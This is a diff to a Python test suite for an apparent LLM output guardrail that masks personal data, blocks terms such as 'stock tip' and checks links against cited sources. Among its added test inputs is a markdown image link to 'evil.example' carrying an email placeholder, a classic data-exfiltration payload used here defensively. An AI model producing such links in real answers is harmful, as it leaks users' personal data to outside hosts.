@@ -57,6 +57,9 @@ PIECES = [
     ". ",
     "it is in 2024 and 15 of",
     "[S1]",
+    " [S1] ",
+    "https://example.com/a",
+    "![a](https://evil.example/[email-1])",
     "'",
     "s",
     "7",
@@ -68,12 +71,15 @@ def terms(**more: Any) -> GuardTerms:
     return GuardTerms(**{"blocked": BLOCKED, "mask_input": ALL, "mask_output": ["iban", "card", "phone"], **more})
 
 
-def leave(rails: Rails, chunks: Sequence[str], *known: str) -> tuple[str, bool]:
+SOURCE = PromptSource("S1", "d", "t", "Write to bob@example.com or see https://example.com/a.")
+
+
+def leave(rails: Rails, chunks: Sequence[str], *known: str, links: bool = False) -> tuple[str, bool]:
     """What leaves of an answer, and whether it was cut."""
     held = rails.masks(known)
     for text in known:
         rails.masked(held, text)
-    leaving: Leaving = rails.leaving(held, (), ())
+    leaving: Leaving = rails.leaving(held, (), [LinkCheck([SOURCE])] if links else [])
     text = ""
     try:
         for chunk in chunks:
@@ -87,19 +93,21 @@ def leave(rails: Rails, chunks: Sequence[str], *known: str) -> tuple[str, bool]:
 
 
 @settings(max_examples=300, deadline=None)
-@given(st.lists(st.sampled_from(PIECES), max_size=12), st.data())
-@example(["stock", " tip"], None)
-def test_the_same_leaves_whatever_the_chunks(pieces: list[str], data: st.DataObject | None) -> None:
+@given(st.lists(st.sampled_from(PIECES), max_size=12), st.booleans(), st.data())
+@example(["stock", " tip"], False, None)
+def test_the_same_leaves_whatever_the_chunks(pieces: list[str], links: bool, data: st.DataObject | None) -> None:
     text = "".join(pieces)
     rails = rails_of(terms())
     known = "bob@example.com +49 171 7654321 ann@example.com"
-    whole = leave(rails, [text], known)
-    assert leave(rails, list(text), known) == whole
-    assert leave(rails, pieces, known) == whole
+    whole = leave(rails, [text], known, links=links)
+    assert leave(rails, list(text), known, links=links) == whole
+    assert leave(rails, pieces, known, links=links) == whole
+    if not whole[1]:
+        assert rails.shown(whole[0]) == whole[0]  # what is remembered stays as it is when it is served
     if data is not None:
         cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
         chunks = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
-        assert leave(rails, chunks, known) == whole
+        assert leave(rails, chunks, known, links=links) == whole
 
 
 @pytest.mark.parametrize("text", ["a Stock Tip b", "谈内幕消息吧", "die Kündigung der Verträge", "an sto\u200bck tips"])
@@ -148,8 +156,9 @@ def test_one_placeholder_for_one_person_in_the_whole_prompt() -> None:
 def test_a_placeholder_is_put_back_unless_its_kind_is_hidden() -> None:
     rails = rails_of(terms())
     known = ("bob@example.com", "+49 30 1234567")
-    assert leave(rails, ["mail [email-1], call [phone-1]x"], *known) == (
-        "mail bob@example.com, call [phone removed]x",
+    # As one number it would have another shape, and not be seen behind this one.
+    assert leave(rails, ["mail [email-1], call 1[phone-1]"], *known) == (
+        "mail bob@example.com, call 1[phone removed]",
         False,
     )
 
@@ -255,14 +264,13 @@ def test_a_rail_that_breaks_lets_nothing_through(
     assert "notice" not in str(caught.value)
 
 
-@pytest.mark.parametrize("name", ["find"])
-def test_masking_that_breaks_shows_the_model_nothing(monkeypatch: pytest.MonkeyPatch, name: str) -> None:
+def test_masking_that_breaks_shows_the_model_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
     rails = rails_of(terms())
-    monkeypatch.setattr(masks, name, _broken)
+    monkeypatch.setattr(masks, "find", _broken)
     with pytest.raises(RailFailed):
         rails.masked(rails.masks(()), "bob@example.com")
     monkeypatch.undo()
-    monkeypatch.setattr(personal, "_candidates", _broken)
+    monkeypatch.setattr(personal, "_taken", _broken)
     with pytest.raises(RailFailed):
         rails.shown("+49 30 1234567")
 
